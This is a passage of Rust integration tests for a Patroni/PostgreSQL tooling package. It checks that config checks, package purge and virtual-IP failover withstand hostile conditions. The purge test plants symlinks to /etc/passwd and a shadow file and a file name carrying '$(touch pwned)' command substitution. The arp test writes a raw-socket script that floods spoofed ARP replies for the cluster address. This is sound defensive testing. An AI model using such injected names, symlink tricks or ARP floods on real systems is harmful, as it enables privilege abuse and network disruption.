                let run = node.try_run(&format!("timeout 40 patroni-gen-config --check {other}"))?;
                task.kill()?;
                let said = format!("{}{}", run.stdout, run.stderr);
                ensure!(run.status.code().is_some_and(|code| code < 3), "{dcs} {manner}: {run}");
                ensure!(begin.elapsed() < Duration::from_secs(15), "{dcs} {manner}: {:?}", begin.elapsed());
                ensure!(!said.contains("panicked") && said.len() < 10_000, "{dcs} {manner}: {said}");
            }
        }
        node.run(&format!("rm -rf /etc/patroni/{}-other.* /usr/local/lib/python3.*/dist-packages/*", self.version()))
            .map(drop)
    }

    /// Names with blanks and commands, links to root's files, directories in the place of files.
    fn purge(&self) -> Result<()> {
        let node = self.main.replica()?;
        node.run_as(
            "postgres",
            r#"cd /var/lib/postgresql && ln -s /etc/passwd a.unfinished && ln -s /etc/victim/shadow "17-x.pgpass" && mkdir b.unfinished &&
               touch 'c d.unfinished' '$(touch pwned).unfinished' -- '-rf.unfinished' &&
               mkdir -p /run/postgresql/.dnscp.x.lock /run/patroni-tools/deep && ln -s /etc/victim /run/patroni-tools/link"#,
        )?;
        let kept = "stat -c '%U %a %s %n' /etc/passwd /etc/victim /etc/victim/shadow";
        let before = node.run(kept)?;
        node.run_within(
            Duration::from_secs(180),
            &format!(
                "systemctl stop {} && apt-get -qq purge -y patroni-tools patroni-tools-common && apt-get -qq install -y patroni-tools",
                self.main.unit()
            ),
        )?;
        ensure!(before == node.run(kept)?, "root's files are others: {before}");
        ensure!(
            !node.try_run("test -e /pwned || test -e /var/lib/postgresql/pwned")?.status.success(),
            "a name was executed"
        );
        let mode = node.run("stat -c '%U:%G %a' /run/patroni-tools")?;
        ensure!(mode.trim() == "postgres:postgres 700", "/run/patroni-tools is {mode}");
        node.run("cd /var/lib/postgresql && rm -rf -- *.unfinished 17-x.pgpass; rm -rf /run/postgresql/.dnscp.x.lock")?;
        node.write("/etc/default/patroni", format!("{SETTINGS}{WITH_TLS}"), 0o644)?;
        node.run(&format!("systemctl restart {}", self.main.unit())).map(drop)
    }

    /// Another machine says in thousands of packets a second that it has the address.
    fn arp(&self) -> Result<()> {
        let loud = self.main.replica()?;
        let flood = "import socket, struct, sys, time
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(('host0', 0x0806))
own = s.getsockname()[4]
vip = socket.inet_aton('10.88.0.100')
packet = b'\\xff' * 6 + own + struct.pack('!HHHBBH', 0x0806, 1, 0x0800, 6, 4, 2) + own + vip + b'\\xff' * 6 + vip
end = time.monotonic() + 20
while time.monotonic() < end:
    for _ in range(100):
        s.send(packet)
    time.sleep(0.005)
";
        loud.write("/var/tmp/arp.py", flood, 0o644)?;
        let candidate = self
            .main
            .nodes()
            .iter()
            .find(|node| node.name() != loud.name() && !holds(node).unwrap_or(true))
            .context("no third member")?;
        let task = loud.spawn("exec python3 /var/tmp/arp.py")?;
        let begin = Instant::now();
        self.main.switch_over(candidate)?;
        self.lab.wait_until(Duration::from_secs(10), "the new primary has the address", || holds(candidate))?;
        println!("  the new primary had the address {:.1?} after the switchover was asked for", begin.elapsed());
        task.kill().map(drop)
    }
}
